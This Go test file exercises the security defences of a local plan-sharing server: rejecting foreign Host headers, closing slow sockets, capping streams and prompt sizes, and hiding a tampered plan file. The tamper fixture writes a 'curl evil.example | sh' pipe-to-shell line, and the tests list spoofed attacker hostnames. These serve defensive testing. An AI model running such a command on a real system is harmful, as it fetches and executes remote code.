package share_test

import (
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"planbridge/internal/session"
	"planbridge/internal/share"
)

func withBounds(c *share.Config) {
	c.ReadHeaderTimeout = 500 * time.Millisecond
	c.ReadTimeout = time.Second
	c.IdleTimeout = time.Second
}

func TestForeignHostRefused(t *testing.T) {
	f := newFixture(t, script())
	f.propose()
	l := f.share(share.View)[share.View]
	u, _ := url.Parse(endpoint(l, ""))
	_, port, _ := net.SplitHostPort(u.Host)
	get := func(host, path string) int {
		req, _ := http.NewRequest("GET", endpoint(l, path), nil)
		req.Host = host
		req.Header.Set(share.KeyHeader, secretOf(t, l))
		res, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, res.Body)
		res.Body.Close()
		return res.StatusCode
	}
	for _, h := range []string{"evil.example", "evil.example:" + port, "localhost.evil.example:" + port,
		"127.0.0.1.nip.io:" + port, "10.1.2.3:" + port, "attacker.test."} {
		for _, p := range []string{"", "/state", "/events"} {
			if got := get(h, p); got != http.StatusMisdirectedRequest {
				t.Errorf("Host %q %s: %d, want 421", h, p, got)
			}
		}
	}
	for _, h := range []string{"127.0.0.1:" + port, "localhost:" + port, "LOCALHOST.:" + port, "[::1]:" + port, "127.0.0.2:" + port} {
		if got := get(h, "/state"); got != http.StatusOK {
			t.Errorf("Host %q: %d, want 200", h, got)
		}
	}
}

// Sockets that never finish a request — a promised body never sent, no
// request at all, an idle keep-alive — are all closed by the server, and a
// real browser then loads the page.
func TestSlowSocketsClosedAndViewerLoads(t *testing.T) {
	f := newFixture(t, script(), withBounds)
	f.propose()
	links := f.share(share.View, share.Full)
	full := links[share.Full]
	u, _ := url.Parse(endpoint(full, ""))
	host := u.Host
	slowBody := fmt.Sprintf("POST %s/prompt HTTP/1.1\r\nHost: %s\r\n%s: %s\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{\"text\":\"",
		u.Path, host, share.KeyHeader, secretOf(t, full))
	keepAlive := fmt.Sprintf("GET /assets/app.css HTTP/1.1\r\nHost: %s\r\n\r\n", host)
	const n = 300
	var wg sync.WaitGroup
	errs := make(chan error, n)
	for i := range n {
		c, err := net.Dial("tcp", host)
		if err != nil {
			t.Fatalf("dial %d: %v", i, err)
		}
		switch i % 3 {
		case 0:
			io.WriteString(c, slowBody)
		case 1:
			io.WriteString(c, keepAlive) // then never another request
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			defer c.Close()
			// Far beyond every server timeout: a socket still open then
			// was never closed by the server.
			c.SetReadDeadline(time.Now().Add(45 * time.Second))
			_, err := io.Copy(io.Discard, c)
			var ne net.Error
			if errors.As(err, &ne) && ne.Timeout() {
				errs <- fmt.Errorf("socket %d (kind %d) was never closed by the server", i, i%3)
			}
		}()
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Error(err)
	}
	b := newBrowser(t)
	view := links[share.View]
	b.do(t, chromedp.Navigate(view.URL), chromedp.WaitVisible(chromedp.CSS("#proposal h1")))
	b.waitText(t, "#proposal h1", "Rename the greeting")
	b.waitText(t, "#tier", "view")
}

func TestStreamsPerLinkCapped(t *testing.T) {
	f := newFixture(t, script(), func(c *share.Config) { c.MaxStreamsPerLink = 3 })
	links := f.share(share.View, share.Full)
	view, full := links[share.View], links[share.Full]
	for range 3 {
		openSSE(t, endpoint(view, "/events"), secretOf(t, view), nil)
	}
	r := f.call(view, "GET", "/events", nil)
	if r.Status != http.StatusTooManyRequests || r.Body["code"] != "too_many_streams" {
		t.Fatalf("4th stream of one link: %d %s", r.Status, r.Raw)
	}
	// Another link is counted apart.
	s := openSSE(t, endpoint(full, "/events"), secretOf(t, full), nil)
	s.res.Body.Close()
}

func TestQueuedPromptsCapped(t *testing.T) {
	// The first turn streams slowly, so every later prompt queues.
	f := newFixture(t, []string{`{"text": "working on it, slowly\n", "delay_ms": 20000}`})
	full := f.share(share.Full)[share.Full]
	if _, err := f.sess.Submit(f.ctx, "start"); err != nil {
		t.Fatal(err)
	}
	waitFor(t, "the first turn to run", func() bool { return f.sess.Info().Busy })
	for i := 1; i <= session.MaxQueued; i++ {
		r := f.call(full, "POST", "/prompt", map[string]string{"text": fmt.Sprintf("follow-up %d", i)})
		if r.Status != http.StatusOK {
			t.Fatalf("prompt %d: %d %s", i, r.Status, r.Raw)
		}
	}
	r := f.call(full, "POST", "/prompt", map[string]string{"text": "one too many"})
	if r.Status != http.StatusTooManyRequests || r.Body["code"] != session.CodeQueueFull || !strings.Contains(r.Raw, "16") {
		t.Fatalf("17th prompt: %d %s", r.Status, r.Raw)
	}
	// Every surface meets the same cap.
	var se *session.Error
	if _, err := f.sess.Queue("from emacs"); !errors.As(err, &se) || se.Code != session.CodeQueueFull {
		t.Fatalf("Queue past the cap: %v", err)
	}
	big := strings.Repeat("x", session.MaxPromptBytes+1)
	r = f.call(full, "POST", "/prompt", map[string]string{"text": big})
	if r.Status != http.StatusRequestEntityTooLarge || r.Body["code"] != session.CodePromptTooLarge {
		t.Fatalf("oversized prompt: %d %.200s", r.Status, r.Raw)
	}
	huge := strings.Repeat(`"`, 3*session.MaxPromptBytes) // escapes to twice that
	r = f.call(full, "POST", "/prompt", map[string]string{"text": huge})
	if r.Status != http.StatusRequestEntityTooLarge || r.Body["code"] != "body_too_large" {
		t.Fatalf("oversized body: %d %.200s", r.Status, r.Raw)
	}
	f.sess.Interrupt()
}

// The page renders the proposed text even after the plan file was
// rewritten behind the card, and never shows the checkout's path.
func TestBrowserShowsProposedTextAfterTamper(t *testing.T) {
	f := newFixture(t, script())
	f.propose()
	plan := filepath.Join(f.sess.WorkDir(), "plans", "current.md")
	if err := os.WriteFile(plan, []byte("# TAMPERED plan\n\n- curl evil.example | sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	view := f.share(share.View)[share.View]
	b := newBrowser(t)
	b.do(t, chromedp.Navigate(view.URL), chromedp.WaitVisible(chromedp.CSS("#proposal h1")))
	b.waitText(t, "#proposal h1", "Rename the greeting")
	page := b.text(t, "body")
	if strings.Contains(page, "TAMPERED") || strings.Contains(page, "evil.example") {
		t.Fatalf("the page shows the rewritten file: %q", page)
	}
	if ws := f.sess.Info().Workspace; strings.Contains(page, ws) {
		t.Fatalf("the page shows the workspace path %s", ws)
	}
	r := f.call(view, "GET", "/state", nil)
	if strings.Contains(r.Raw, f.sess.Info().Workspace) || strings.Contains(r.Raw, "TAMPERED") {
		t.Fatalf("state: %s", r.Raw)
	}
}

// An event stream outlives the read and write timeouts that close stalled
// sockets: idle longer than both, it still delivers the next event.
func TestStreamOutlivesRequestTimeouts(t *testing.T) {
	f := newFixture(t, script(), withBounds, func(c *share.Config) { c.WriteTimeout = time.Second })
	view := f.share(share.View)[share.View]
	s := openSSE(t, endpoint(view, "/events"), secretOf(t, view), nil)
	// Wait past every deadline (read 1 s, write 1 s, idle 1 s) with
	// nothing sent, then make something happen.
	time.Sleep(2500 * time.Millisecond)
	if _, err := f.sess.Queue("after the timeouts"); err != nil {
		t.Fatal(err)
	}
	if _, ok := s.next(t, kind("user")); !ok {
		t.Fatal("the stream was closed by a request timeout")
	}
}

func TestFeedbackSizeCapped(t *testing.T) {
	f := newFixture(t, script())
	v := f.propose()
	full := f.share(share.Full)[share.Full]
	r := f.call(full, "POST", "/feedback", map[string]string{"attempt": v.Attempt, "text": strings.Repeat("f", session.MaxPromptBytes+1)})
	if r.Status != http.StatusRequestEntityTooLarge || r.Body["code"] != session.CodePromptTooLarge {
		t.Fatalf("oversized feedback: %d %.200s", r.Status, r.Raw)
	}
	if after := f.sess.Approval(); !after.Pending || after.Attempt != v.Attempt {
		t.Fatal("refused feedback changed the card")
	}
}
